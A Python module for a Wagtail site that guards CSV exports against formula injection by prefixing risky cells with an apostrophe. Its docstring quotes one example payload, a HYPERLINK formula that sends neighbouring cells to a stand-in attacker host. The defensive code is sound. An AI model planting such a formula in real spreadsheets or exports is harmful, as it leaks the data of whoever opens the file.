"""Spreadsheet exports that cannot carry a formula (CSV injection).

Text that starts with =, +, -, @, tab or carriage return is a formula to Excel and LibreOffice when they
open a CSV file: a page title such as =HYPERLINK("https://evil.example/?"&A2,"Öppna") in an editor's
export sends the neighbouring cells away. Such text gets a leading apostrophe, as OWASP recommends: the
spreadsheet shows it as text, and a reader still sees what was written.
"""

from functools import wraps

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """The value to put in a CSV cell: text that would start a formula is made plain text; anything else is kept."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_wagtail_exports():
    """Every CSV export that Wagtail's SpreadsheetExportMixin writes, ours and Wagtail's own reports alike.

    Wagtail's reports (aging pages, site history, workflows, form submissions) and our ReportViews all
    write each cell through `preprocess_field_value`, so wrapping it once covers them all. XLSX needs
    nothing: Wagtail writes text as typed text cells (it even turns openpyxl's formula guess back into
    text), and a typed text cell is never evaluated.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    @wraps(original)
    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        if export_format == SpreadsheetExportMixin.FORMAT_CSV:
            return neutralise_formula(value)
        return value

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
